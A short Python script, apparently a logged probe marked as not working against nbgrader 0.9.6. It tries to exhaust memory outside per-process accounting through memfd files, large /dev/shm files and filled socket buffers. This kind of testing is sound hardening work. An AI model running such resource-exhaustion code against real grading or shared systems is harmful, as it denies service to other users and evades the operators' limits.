# tries: memory in files that belong to no process: memfd, shared memory, sockets, System V segments
# worked: no (nbgrader 0.9.6 in one process)
import os
import socket

kept = []
try:
    for _ in range(40):
        descriptor = os.memfd_create("attack")
        os.write(descriptor, b"x" * 50_000_000)
        kept.append(descriptor)
except OSError:
    pass
try:
    for number in range(40):
        with open(f"/dev/shm/attack-left-{number}", "wb") as file:
            file.write(b"x" * 50_000_000)
except OSError:
    pass
try:
    for _ in range(300):
        pair = socket.socketpair()
        pair[0].setblocking(False)
        kept.append(pair)
        for _ in range(10):
            pair[0].send(b"x" * 100_000)
except OSError:
    pass
